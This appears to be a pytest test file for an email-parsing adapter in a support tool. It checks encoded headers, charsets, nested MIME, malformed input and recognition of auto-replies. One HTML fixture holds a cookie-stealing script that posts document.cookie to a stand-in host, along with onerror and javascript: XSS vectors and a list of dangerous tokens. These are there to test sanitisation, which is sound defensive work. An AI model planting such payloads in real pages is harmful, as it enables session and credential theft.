"""Parsing real-world shaped mail: encoded words, charsets, HTML-only, nesting, breakage."""

from __future__ import annotations

import base64
import contextlib
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from frontline.adapters.email.parse import (
    SYNTHETIC_ID_DOMAIN,
    MalformedEmail,
    parse_email,
)
from frontline.service.ports_email import Mailbox


def crlf(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode("ascii")


# RFC 2047 §8 examples, with their published decodings as the oracle.
RFC2047_EXAMPLE = crlf(
    """From: =?US-ASCII?Q?Keith_Moore?= <moore@cs.utk.edu>
To: =?ISO-8859-1?Q?Keld_J=F8rn_Simonsen?= <keld@dkuug.dk>
CC: =?ISO-8859-1?Q?Andr=E9?= Pirard <PIRARD@vm1.ulg.ac.be>
Subject: =?ISO-8859-1?B?SWYgeW91IGNhbiByZWFkIHRoaXMgeW8=?=
 =?ISO-8859-2?B?dSB1bmRlcnN0YW5kIHRoZSBleGFtcGxlLg==?=
Message-ID: <rfc2047.example@cs.utk.edu>
Date: Fri, 21 Nov 1997 09:55:06 -0600
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

Caf=E9 cr=E8me, na=EFve fa=E7ade.
"""
)


def test_rfc2047_encoded_words_decode_to_the_published_text() -> None:
    email = parse_email(RFC2047_EXAMPLE)
    assert email.sender == Mailbox("moore@cs.utk.edu", "Keith Moore")
    assert email.to == (Mailbox("keld@dkuug.dk", "Keld Jørn Simonsen"),)
    assert email.cc == (Mailbox("PIRARD@vm1.ulg.ac.be", "André Pirard"),)
    assert email.subject == "If you can read this you understand the example."
    assert email.message_id == "<rfc2047.example@cs.utk.edu>"
    assert email.date == datetime(1997, 11, 21, 15, 55, 6, tzinfo=UTC)


def test_iso_8859_1_quoted_printable_body() -> None:
    assert parse_email(RFC2047_EXAMPLE).text == "Café crème, naïve façade.\n"


HTML_ONLY = crlf(
    """From: shop@example.com
To: help@support.example
Subject: Order <b>42</b>
Message-ID: <html-only@example.com>
Content-Type: text/html; charset=utf-8

<html><head><title>t</title><style>p {color: red}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><p onclick="steal()">Hello &amp; welcome,</p><div>my order &lt;42&gt; is late.<br>
<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">click</a></div>
<!-- hidden comment --></body></html>
"""
)


def test_html_only_mail_gives_safe_text_without_script_content() -> None:
    email = parse_email(HTML_ONLY)
    assert email.text == "Hello & welcome,\n\nmy order <42> is late.\n\nclick"
    assert "document.cookie" not in email.text
    assert "color: red" not in email.text
    assert "hidden comment" not in email.text
    assert email.subject == "Order <b>42</b>"  # plain text: escaping is the renderer's job


def test_html_only_mail_keeps_a_sanitised_html_copy() -> None:
    html = parse_email(HTML_ONLY).html
    assert html is not None
    lowered = html.lower()
    for dangerous in ("<script", "onclick", "onerror", "javascript:", "document.cookie", "<style"):
        assert dangerous not in lowered
    assert "Hello &amp; welcome," in html


PDF_BYTES = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG_BYTES = b"\x89PNG\r\n\x1a\n" + bytes(range(64))


def nested_message() -> bytes:
    pdf = base64.encodebytes(PDF_BYTES).decode()
    png = base64.encodebytes(PNG_BYTES).decode()
    return crlf(
        f"""From: =?utf-8?q?M=C3=BCller=2C_J=C3=B6rg?= <jorg@example.de>
To: help@support.example, "Second, Desk" <desk@support.example>
Reply-To: tickets@example.de
Subject: Statement attached
Message-ID: <nested@example.de>
In-Reply-To: <agent-1@support.example>
References: <first@example.de>
 <agent-1@support.example>
Date: Mon, 6 May 2024 10:00:00 +0200
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

This is a multi-part message in MIME format.
--outer
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Please see the statement.
--alt
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<p>Please see the <b>statement</b>.<img src="cid:logo@x"></p>
--rel
Content-Type: image/png
Content-ID: <logo@x>
Content-Disposition: inline
Content-Transfer-Encoding: base64

{png}
--rel--
--alt--
--outer
Content-Type: application/pdf; name="statement.pdf"
Content-Disposition: attachment; filename*=UTF-8''r%C3%A9sum%C3%A9%20mai.pdf
Content-Transfer-Encoding: base64

{pdf}
--outer
Content-Type: message/rfc822

From: bank@example.com
Subject: Your statement
Message-ID: <inner@example.com>

Forwarded body.
--outer--
"""
    )


def test_nested_multipart_prefers_text_plain_and_finds_every_attachment() -> None:
    email = parse_email(nested_message())
    assert email.text == "Please see the statement."  # the CRLF before a boundary is part of it
    assert email.html is not None and "<b>statement</b>" in email.html
    found = [(a.filename, a.content_type) for a in email.attachments]
    assert found == [
        ("attachment-1.png", "image/png"),
        ("résumé mai.pdf", "application/pdf"),
        ("Your statement.eml", "message/rfc822"),
    ]
    assert email.attachments[0].data == PNG_BYTES
    assert email.attachments[1].data == PDF_BYTES
    assert b"Forwarded body." in email.attachments[2].data
    assert email.message_id == "<nested@example.de>"  # not the forwarded message's id


def test_addresses_threading_headers_and_zone_conversion() -> None:
    email = parse_email(nested_message())
    assert email.sender == Mailbox("jorg@example.de", "Müller, Jörg")
    assert email.to == (
        Mailbox("help@support.example"),
        Mailbox("desk@support.example", "Second, Desk"),
    )
    assert email.reply_to == (Mailbox("tickets@example.de"),)
    assert email.in_reply_to == ("<agent-1@support.example>",)
    assert email.references == ("<first@example.de>", "<agent-1@support.example>")
    assert email.date == datetime(2024, 5, 6, 8, 0, tzinfo=UTC)


MISSING_ID = crlf("From: a@example.org\nSubject: no id\nDate: nonsense\n\nbody\n")


def test_missing_message_id_gets_a_stable_synthetic_one() -> None:
    first = parse_email(MISSING_ID)
    assert first.message_id.endswith(f"@{SYNTHETIC_ID_DOMAIN}>")
    assert parse_email(MISSING_ID).message_id == first.message_id  # redelivery dedupes
    other = parse_email(MISSING_ID.replace(b"body", b"other body"))
    assert other.message_id != first.message_id
    assert "MissingMessageId" in first.defects


def test_unparseable_date_is_none_with_a_defect() -> None:
    email = parse_email(MISSING_ID)
    assert email.date is None
    assert "InvalidDate" in email.defects


def test_minus_zero_zone_date_is_read_as_utc() -> None:
    raw = crlf("From: a@example.org\nDate: Tue, 1 Jul 2003 10:52:37 -0000\n\nx\n")
    assert parse_email(raw).date == datetime(2003, 7, 1, 10, 52, 37, tzinfo=UTC)


def test_unbracketed_message_id_is_accepted() -> None:
    raw = crlf("From: a@example.org\nMessage-ID: 1234.5678@mailer.example\n\nx\n")
    assert parse_email(raw).message_id == "<1234.5678@mailer.example>"


def test_unknown_charset_falls_back_to_utf8() -> None:
    raw = (
        crlf("From: a@example.org\nContent-Type: text/plain; charset=x-klingon\n\n")
        + "Grüße\r\n".encode()
    )
    email = parse_email(raw)
    assert email.text == "Grüße\n"
    assert "UnknownCharset" in email.defects


def test_mislabelled_us_ascii_that_is_utf8_is_decoded() -> None:
    raw = crlf("From: a@example.org\nContent-Type: text/plain; charset=us-ascii\n\n")
    assert parse_email(raw + "Ñandú\r\n".encode()).text == "Ñandú\n"


def test_undecodable_bytes_become_replacement_characters() -> None:
    raw = crlf("From: a@example.org\nContent-Type: text/plain; charset=utf-8\n\n") + b"ok \xff\xfe"
    email = parse_email(raw)
    assert email.text.startswith("ok ")
    assert "UndecodableText" in email.defects


def test_raw_8bit_utf8_subject_is_decoded() -> None:
    raw = b"From: a@example.org\r\nSubject: R\xc3\xa9clamation\r\n\r\nx\r\n"
    assert parse_email(raw).subject == "Réclamation"


def test_raw_8bit_latin1_subject_is_decoded() -> None:
    raw = b"From: a@example.org\r\nSubject: R\xe9clamation\r\n\r\nx\r\n"
    assert parse_email(raw).subject == "Réclamation"


def test_raw_8bit_latin1_display_name_is_decoded() -> None:
    raw = b"From: Jos\xe9 <jose@example.es>\r\n\r\nx\r\n"
    assert parse_email(raw).sender == Mailbox("jose@example.es", "José")


def test_invalid_addresses_are_dropped_not_fatal() -> None:
    raw = crlf("From: broken@@ <>, Ana <ana@example.org>\nTo: undisclosed-recipients:;\n\nx\n")
    email = parse_email(raw)
    assert email.sender == Mailbox("ana@example.org", "Ana")
    assert email.to == ()


def test_missing_closing_boundary_and_truncated_base64_do_not_crash() -> None:
    raw = crlf(
        "From: a@example.org\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
        "Content-Type: text/plain\n\nhello\n--b\nContent-Type: application/pdf\n"
        "Content-Disposition: attachment; filename=x.pdf\nContent-Transfer-Encoding: base64\n\n"
        "JVBERi0xLjQK\nJVBER"
    )
    email = parse_email(raw)
    assert email.text == "hello"
    assert [a.filename for a in email.attachments] == ["x.pdf"]
    assert email.defects  # the breakage is reported, not hidden


def test_header_injection_in_folded_subject_stays_one_line() -> None:
    raw = crlf("From: a@example.org\nSubject: one\n two\n\nx\n")
    assert parse_email(raw).subject == "one two"


@pytest.mark.parametrize("raw", [b"", b"   \r\n\r\n", b"just some text without headers"])
def test_non_messages_raise_a_clear_error(raw: bytes) -> None:
    with pytest.raises(MalformedEmail):
        parse_email(raw)


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=600))
def test_arbitrary_bytes_never_crash(raw: bytes) -> None:
    with contextlib.suppress(MalformedEmail):
        parse_email(raw)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_corrupted_real_messages_never_crash(data: st.DataObject) -> None:
    original = bytearray(nested_message())
    for _ in range(data.draw(st.integers(1, 8))):
        position = data.draw(st.integers(0, len(original) - 1))
        original[position] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(original)))
    try:
        email = parse_email(bytes(original[:cut]))
    except MalformedEmail:
        return
    assert isinstance(email.text, str)


@pytest.mark.parametrize(
    ("header", "automated"),
    [
        ("Auto-Submitted: auto-replied", True),
        ("Auto-Submitted: auto-generated", True),
        ("Auto-Submitted: no", False),
        ("Precedence: bulk", True),
        ("Precedence: first-class", False),
        ("X-Autoreply: yes", True),
        ("Content-Type: multipart/report; report-type=delivery-status; boundary=x", True),
        ("X-Mailer: Outlook", False),
    ],
)
def test_automated_mail_is_recognised(header: str, automated: bool) -> None:
    raw = crlf(f"From: a@example.org\n{header}\n\nI am out of office.\n")
    assert parse_email(raw).automated is automated
